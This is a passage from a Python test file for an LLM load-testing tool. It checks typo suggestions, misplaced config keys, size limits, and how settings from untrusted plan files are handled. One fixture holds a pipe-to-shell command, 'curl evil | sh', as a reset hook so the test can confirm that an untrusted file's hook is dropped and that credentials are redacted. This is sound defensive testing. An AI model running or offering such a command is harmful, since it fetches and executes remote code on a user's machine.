    value it was meant to be and the list."""
    enums = {n: derive._choices(Settings.model_fields[n].annotation) for n in options()}
    enums = {n: c for n, c in enums.items() if c and n != "workers"}
    assert {"route", "image_format", "tool_choice", "arrivals"} <= set(enums)
    for name, choices in enums.items():
        typo = choices[-1][:-1]
        with pytest.raises(PlanError) as e:
            derive.resolve(None, cli(options()[name][1].flag_for(name), typo))
        assert f"unknown value {typo!r} (did you mean {choices[-1]!r}?); one of " in str(e.value), name
    for argv, meant in (
        (["--api", "openai-cht"], "'openai-chat'"),
        (["--workers", "autp"], "'auto'"),
        (["--trace-format", "sharegtp"], "'sharegpt'"),
        (["--synthetic", "reqests=5"], "'requests'"),
        (["--mix", "embedings:0.1"], "'embeddings'"),
        (["--ladder", "concurency:1..4"], "'concurrency'"),
    ):
        with pytest.raises(PlanError, match=rf"did you mean {meant}"):
            derive.resolve(None, cli(*argv))


@pytest.mark.parametrize(
    "text, message",
    [
        ("warmup: 5s\n", ":1: warmup: unknown key 'warmup' here: it belongs under ladder: (ladder.warmup)"),
        ("request_timeout: 2m\n", "unknown key 'request_timeout' here: it belongs under timeouts: (timeouts.request)"),
        ("steps: [1, 2]\n", "unknown key 'steps' here: it belongs under ladder: (ladder.steps)"),
        (
            "ladder: {kind: rate, steps: [1], users: 4}\n",
            "ladder.users: unknown key 'users' here: it belongs under load: (load.users)",
        ),
        ("timeouts: {think_time: 1}\n", "it belongs under workload: (workload.think_time)"),
        ("workload: {results: r.json}\n", "it belongs at the top of the plan (results)"),
    ],
)
def test_a_key_in_the_wrong_section_is_pointed_to_its_section(tmp_path, text, message):
    assert any(message in p for p in problems(tmp_path, text)), problems(tmp_path, text)


@pytest.mark.parametrize(
    "argv, message",
    [
        (["-u", "100001"], "-u/--users: 100001 is more than 100000, the most users in one run"),
        (["--max-in-flight", "200000"], "--max-in-flight: 200000 is more than 100000"),
        (["--loops", "5000"], "--loops: 5000 is more than 1000"),
        (["--max-tokens", "20000000"], "--max-tokens: 20000000 is more than 10000000"),
        (["--overlong-tokens", "20000000"], "--overlong-tokens: 20000000 is more than 10000000"),
        (["--max-event-bytes", str(2 << 30)], "--max-event-bytes: 2147483648 is more than 1073741824"),
        (["--sim-slots", "20000"], "--sim-slots: 20000 is more than 10000"),
        (["--workers", "100000"], "--workers: 100000 local worker processes on"),
        (["--synthetic", "requests=2000000"], "requests=2000000 is more than 1000000"),
        (["--synthetic", "requests=1e9"], "requests: expected a whole number, got '1e9'"),
        (["--ladder", "concurrency:1,200000"], "levels: 200000 is more than 100000, the most users in one run"),
        (["--ladder", "rate:1,1e6"], "levels: 1000000 is more than 100000, the most requests/s"),
        (["--ladder", "sla:concurrency:1..1000000:5%"], "levels: 1000000 is more than 100000"),
        (["--host", "http://127.0.0.1:99999"], "--host: port '99999' in 'http://127.0.0.1:99999': a port is a number"),
        (["--endpoints", "http://127.0.0.1:70000"], "--endpoints: port '70000'"),
    ],
)
def test_silly_sizes_are_refused_saying_the_limit(argv, message):
    with pytest.raises(PlanError) as e:
        derive.resolve(None, cli(*argv))
    assert any(message in p for p in e.value.problems), e.value.problems


def test_the_largest_sensible_sizes_are_taken():
    from llm_locust.settings.limits import MAX_USERS, max_local_workers

    s = derive.resolve(None, cli("-u", str(MAX_USERS), "--workers", str(max_local_workers())))
    assert (s.users, s.workers) == (MAX_USERS, max_local_workers())


@pytest.mark.parametrize(
    "argv, n_workers, cores, problem",
    [
        (["-u", "20000"], 0, 2, "-u/--users 20000: 20000 streams a local process (1 on 2 cores), more than 5000"),
        (["-u", "20000"], 4, 8, None),
        (["--ladder", "concurrency:1,16000"], 2, 4, "--ladder concurrency:1,16000: 8000 streams a local process"),
        (["--ladder", "rate:1,500"], 0, 2, None),  # its concurrency is not known ahead
        (["-u", "5000"], 0, 2, None),
    ],
)
def test_a_local_process_takes_a_bounded_number_of_streams(argv, n_workers, cores, problem):
    from llm_locust.settings.workers import local_problem

    said = local_problem(derive.resolve(None, cli(*argv)), n_workers, cores)
    assert (said or None) == problem if problem is None else said.startswith(problem)


def _files_plan(tmp_path) -> derive.Given:
    lf = write(tmp_path, "x = 1\n", "theirs.py")
    text = yaml.safe_dump(
        {
            "host": "http://10.0.0.9:8000",
            "endpoints": ["http://10.0.0.10:8000"],
            "api_key_env": "AWS_SECRET_ACCESS_KEY",
            "locustfile": str(lf),
            "repeat": {"count": 2, "reset_hook": "curl evil | sh"},
            "observe": {"server_metrics": "http://10.0.0.9:9/metrics", "gpu_metrics": "http://10.0.0.9:9401"},
            "load": {"users": 3},
        }
    )
    return derive.load_plan(write(tmp_path, text))


def test_a_file_is_data_unless_trusted(tmp_path):
    from llm_locust.settings import sources

    plan = _files_plan(tmp_path)
    kept, lines = sources.untrusted(plan, cli(), trust=False)
    s = derive.resolve(kept, cli())
    assert (s.host, s.endpoints, s.locustfile, s.reset_hook, s.server_metrics, s.gpu_metrics) == ("",) * 6
    assert s.api_key_env == "OPENAI_API_KEY" and s.users == 3 and s.repeat == 2  # the rest is taken
    assert "is data: not taken from it" in lines[0] and "--trust-plan" in lines[0]
    hook = "  repeat.reset_hook: 'curl evil | sh' (runs a shell command): give --reset-hook 'curl evil | sh' to use it"
    assert hook in lines, lines
    assert len(lines) == 1 + 7
    # what the command line gives is the user's: not dropped, not said
    kept, lines = sources.untrusted(plan, cli("--host", "http://127.0.0.1:8000"), trust=False)
    assert not any(line.startswith("  host:") for line in lines)
    assert derive.resolve(kept, cli("--host", "http://127.0.0.1:8000")).host == "http://127.0.0.1:8000"
    # --trust-plan takes the file as it is
    kept, lines = sources.untrusted(plan, cli("--trust-plan"), trust=True)
    trusted = derive.resolve(kept, cli("--trust-plan"))
    assert lines == [] and trusted.host == "http://10.0.0.9:8000" and trusted.reset_hook == "curl evil | sh"
    # a dropped URL is said without its credentials (issue 35 finding 4: they were printed in clear)
    secret = derive.load_plan(write(tmp_path, "mlflow:\n  uri: http://alice:S3cretPW@127.0.0.1:5000/?token=T0ken9\n"))
    _, lines = sources.untrusted(secret, cli(), trust=False)
    said = "\n".join(lines)
    assert lines and "S3cretPW" not in said and "T0ken9" not in said, said
    # declared once: exactly these settings need trust
    needs = {n for n, (_, o) in options().items() if o.trust}
    assert needs == {
        "host",
        "endpoints",
        "api_key_env",
        "locustfile",
        "reset_hook",
        "server_metrics",
        "gpu_metrics",
        "mlflow",
        "web_origins",
        "record_log",
        "prometheus_host",
    }


def test_a_rerun_writes_beside_its_source(tmp_path, monkeypatch):
    from llm_locust.settings import sources

    monkeypatch.chdir(tmp_path)
    source = tmp_path / "runs" / "r.json"
    source.parent.mkdir()
    plan = derive.plan_values(
        {"results": "r.json", "report": "r.html", "record_log": "log.jsonl"}, source="runs/r.json"
    )
    moved, line = sources.rerun_outputs("runs/r.json", plan, cli())
    assert moved.values["results"] == str(tmp_path / "runs" / "r.rerun-1.json")
    assert moved.values["report"] == str(tmp_path / "runs" / "r.rerun-1.html")
    assert moved.values["record_log"] == str(tmp_path / "runs" / "r.rerun-1.records.jsonl")
    assert line.startswith("re-run of runs/r.json: writing runs/r.rerun-1.json, runs/r.rerun-1.html, ")
    (tmp_path / "runs" / "r.rerun-1.html").write_text("")  # taken: the next number for every output
    moved, _ = sources.rerun_outputs("runs/r.json", plan, cli())
    assert moved.values["results"].endswith("r.rerun-2.json")
    # a re-run of a re-run counts on; the command line's outputs are kept
    (tmp_path / "runs" / "r.rerun-1.json").write_text("{}")
    moved, line = sources.rerun_outputs("runs/r.rerun-1.json", plan, cli("--report", "mine.html"))
    assert moved.values["results"].endswith("runs/r.rerun-2.json") and "report" not in line
    with pytest.raises(PlanError, match="--results runs/r.json: that is the results file this run reads"):
        sources.rerun_outputs("runs/r.json", plan, cli("--results", "runs/r.json"))
